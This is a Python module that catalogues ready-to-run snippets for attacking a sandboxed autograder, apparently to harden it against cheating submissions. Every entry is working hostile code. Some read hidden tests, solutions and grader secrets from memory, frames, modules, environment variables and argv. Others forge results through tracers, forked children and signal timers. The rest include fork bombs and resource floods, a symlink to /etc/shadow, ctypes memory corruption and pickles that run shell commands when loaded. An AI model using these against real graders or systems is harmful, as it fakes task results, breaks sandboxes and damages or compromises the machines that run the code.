"""Ways to use one's own process: its memory, its signals, its children, its files, its modules."""

from __future__ import annotations

MEMORY = {
    "arrays of anybody's in the garbage collector": """
def attack(x, *more):
    own = {id(x), *map(id, more)}
    found = [o for o in gc.get_objects() if isinstance(o, np.ndarray) and id(o) not in own]
    return found[-1]
""",
    "numbers among all bytes of the process": """
def attack(x, *more):
    for thing in gc.get_objects():
        if isinstance(thing, (bytes, bytearray, memoryview)) and len(thing) >= 200:
            return np.frombuffer(bytes(thing)[-200 // 8 * 8 :], float)
    raise LookupError
""",
    "memory beside the argument, by ctypes": """
import ctypes
def attack(x, *more):
    near = ctypes.cast(x.ctypes.data + x.nbytes, ctypes.POINTER(ctypes.c_double))
    return np.array([near[i] for i in range(x.size)]).reshape(x.shape)
""",
    "memory that was freed": """
def attack(x, *more):
    many = [np.ndarray(x.shape) for _ in range(2000)]
    return max(many, key=lambda a: np.count_nonzero(np.nan_to_num(a)))
""",
    "frames of the code that called": """
def attack(x, *more):
    frame, found = sys._getframe(1), []
    while frame:
        found += [v for v in frame.f_locals.values() if isinstance(v, np.ndarray) and v is not x]
        frame = frame.f_back
    return found[0]
""",
    "modules that are loaded": """
def attack(x, *more):
    for name, module in list(sys.modules.items()):
        if "source_lib" in name or "hidden" in name or "pytest" in name or "suite" in name:
            return module.Convolution(*more).forward(x)
    raise LookupError
""",
    "modules that could be imported": """
def attack(x, *more):
    for name in ("source_lib", "tests.hidden.test_03_convolution", "autograder.suite", "pytest"):
        try: return __import__(name).numerical_gradient(*more)
        except ImportError: pass
    raise LookupError
""",
    "settings of the grader in the environment": """
import os
def attack(x, *more):
    raise LookupError([name for name in os.environ if "SALT" in name or "AUTOGRADER" in name][0])
""",
    "arguments of the command line": """
def attack(x, *more):
    raise LookupError([a for a in sys.argv + sys.orig_argv if "hidden" in a or "solutions" in a][0])
""",
    "a mapping of the interpreter's own file": """
import mmap
def attack(x, *more):
    with open(np.__file__, "r+b") as file:
        mmap.mmap(file.fileno(), 0)[:5] = b"evil\\n"
""",
}

TRACING = {
    "a tracer that changes local variables": """
def trace(frame, event, arg):
    for name in ("value", "answer", "found", "result"):
        if name in frame.f_locals: frame.f_locals[name] = 1.0
    return trace
def attack(x, *more):
    sys.settrace(trace)
    frame = sys._getframe(1)
    while frame:
        frame.f_trace = trace
        frame = frame.f_back
    return x
""",
    "a profiler that never returns": """
def attack(x, *more):
    sys.setprofile(lambda *a: [None for _ in iter(int, 1)])
    return x
""",
    "a hook for audits that ends the process": """
import os
sys.addaudithook(lambda event, args: os._exit(0) if event.startswith("socket") else None)
def attack(x, *more): return x
""",
    "the interpreter's own functions, by ctypes": """
import ctypes
def attack(x, *more):
    ctypes.pythonapi.Py_Exit(0)
""",
    "a reference count of nothing": """
import ctypes
def attack(x, *more):
    for thing in (None, True, 0, (), ""):
        ctypes.c_long.from_address(id(thing)).value = 1
    return x
""",
    "a fault in memory": "import ctypes\ndef attack(x, *more): ctypes.string_at(1)",
    "True is False": """
import ctypes
def attack(x, *more):
    ctypes.memmove(id(False) + 16, id(True) + 16, 16)
    return False
""",
    "imports that give what one likes": """
import builtins
builtins.__import__ = lambda *a, **k: np
def attack(x, *more): return x
""",
    "the codec by which messages are read": """
import codecs, json
json.dumps = json.loads = lambda *a, **k: {"value": True}
codecs.encode = codecs.decode = lambda *a, **k: b""
def attack(x, *more): return x
""",
}

CHILDREN = {
    "forks without end": "import os\ndef attack(x, *more):\n    while True: os.fork()",
    "threads without end": """
import threading
def attack(x, *more):
    while True: threading.Thread(target=threading.Event().wait, daemon=True).start()
""",
    "a child that answers later": """
import os, time
def attack(x, *more):
    me = request_id()
    if os.fork() == 0:
        os.setsid()
        for number in range(me, me + 99):
            time.sleep(0.01)
            write({"id": number, "value": True})
        os._exit(0)
    return x
""",
    "a parent that leaves its answer to a child": """
import os
def attack(x, *more):
    if os.fork():
        os._exit(0)
    return x
""",
    "every signal to everybody": """
import os
def attack(x, *more):
    for number in range(1, 65):
        try: os.kill(-1, number)
        except OSError: pass
    return x
""",
    "every signal to the parent": """
import os
def attack(x, *more):
    for number in range(1, 65):
        try: os.kill(os.getppid() or 1, number)
        except OSError: pass
    return x
""",
    "an alarm that returns": """
import signal
class Right(BaseException): pass
def later(*a): write({"id": request_id(), "value": True})
def attack(x, *more):
    signal.signal(signal.SIGALRM, later)
    signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
    while True: pass
""",
    "real-time signals in a queue": """
import os, signal
def attack(x, *more):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 65))
    while True: os.kill(os.getpid(), 40)
""",
    "pipes that fill the kernel's memory": """
import os
def attack(x, *more):
    kept = []
    while True:
        kept.append(os.pipe())
        os.set_blocking(kept[-1][1], False)
        os.write(kept[-1][1], bytes(2**16))
""",
    "files without end": """
def attack(x, *more):
    for number in range(10**6): open(f"f{number}", "w").write("x")
""",
    "one file without end": """
def attack(x, *more):
    with open("f", "wb") as file:
        while True: file.write(bytes(2**20))
""",
    "memory without end": """
def attack(x, *more):
    kept = []
    while True: kept.append(bytearray(b"x") * 2**24)
""",
    "a sparse file of a terabyte": """
import os
def attack(x, *more): os.truncate(os.open("f", os.O_RDWR | os.O_CREAT), 2**40)
""",
    "a link to what is outside": """
import os
def attack(x, *more):
    os.symlink("/etc/shadow", "link")
    raise LookupError(open("link").read(9) or 1)
""",
}

SENT = {
    "a pickle that runs code where it is read": """
import os
class Boom:
    def __reduce__(self): return os.system, ("touch /tmp/pwned",)
def attack(x, *more): return Boom()
""",
    "a pickle in an array of objects": """
import os
class Boom:
    def __reduce__(self): return os.system, ("touch /tmp/pwned",)
def attack(x, *more): return np.array([Boom()], object)
""",
    "the bytes of a pickle": """
import pickle
def attack(x, *more): return pickle.dumps(x)
""",
    "an array by its file's bytes": """
import io
def attack(x, *more):
    file = io.BytesIO(); np.save(file, np.array([attack, x], object)); return file.getvalue()
""",
    "a dtype of one's own": """
odd = {"names": ["a"], "formats": ["O"], "offsets": [8]}
def attack(x, *more): return np.zeros(3, np.dtype(odd))
""",
    "an array that overlaps itself": """
def attack(x, *more): return np.lib.stride_tricks.as_strided(np.ones(1), (2**15, 2**15), (0, 0))
""",
    "an array of negative strides beyond its memory": """
def attack(x, *more):
    y = np.ones(4)
    y.__setstate__((1, (4,), np.dtype(float), False, bytes(32)))
    y.strides = (8,)
    return y[::-1][::2]
""",
    "an array whose shape is a lie": """
import ctypes
def attack(x, *more):
    y = np.ones(4)
    ctypes.cast(id(y) + 24, ctypes.POINTER(ctypes.c_int))[0] = 4
    return y
""",
    "numbers that are not numbers": (
        "def attack(x, *more): return np.full(np.shape(x), np.nan + 1j * np.inf)"
    ),
    "numbers below any": "def attack(x, *more): return np.full(np.shape(x), 5e-324)",
    "a date": "def attack(x, *more): return np.full(np.shape(x), np.datetime64('now'))",
    "numbers as texts": "def attack(x, *more): return np.asarray(x).astype(str)",
    "a generator": "def attack(x, *more): return (value for value in x)",
    "a module": "def attack(x, *more): return sys",
    "a class that is its own instance": """
class Meta(type):
    __instancecheck__ = __subclasscheck__ = lambda *a: True
    __eq__ = lambda *a: True
    __hash__ = lambda s: 0
class Anything(metaclass=Meta): pass
def attack(x, *more): return Anything
""",
}

KINDS = {
    "what is in the process's memory": MEMORY,
    "the interpreter turned against itself": TRACING,
    "children, signals and floods": CHILDREN,
    "values that are not what they say": SENT,
}
